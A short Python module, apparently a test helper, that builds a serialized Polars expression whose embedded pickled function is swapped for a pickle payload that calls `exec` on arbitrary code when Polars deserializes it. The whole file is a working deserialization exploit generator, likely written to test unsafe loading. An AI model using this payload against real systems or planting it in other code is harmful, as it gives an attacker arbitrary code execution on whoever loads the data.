"""Expressions whose pickled function was exchanged for a program, as someone who means harm would write them."""

from __future__ import annotations

import json
from typing import Any

import polars as pl


class _Runs:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return exec, (self.code,)


def program(expr: pl.Expr, code: str) -> str:
    """The JSON of an expression with a Python function in it, which runs `code` when Polars reads it."""
    import pickle

    def changed(node: Any) -> Any:
        if isinstance(node, dict):
            return {key: changed(inner) for key, inner in node.items()}
        if isinstance(node, list) and len(node) > 20 and all(isinstance(byte, int) for byte in node):
            data = bytes(node)
            return list(data[: data.index(0x80)] + pickle.dumps(_Runs(code)))
        return [changed(inner) for inner in node] if isinstance(node, list) else node

    return json.dumps(changed(json.loads(expr.meta.serialize(format="json"))))
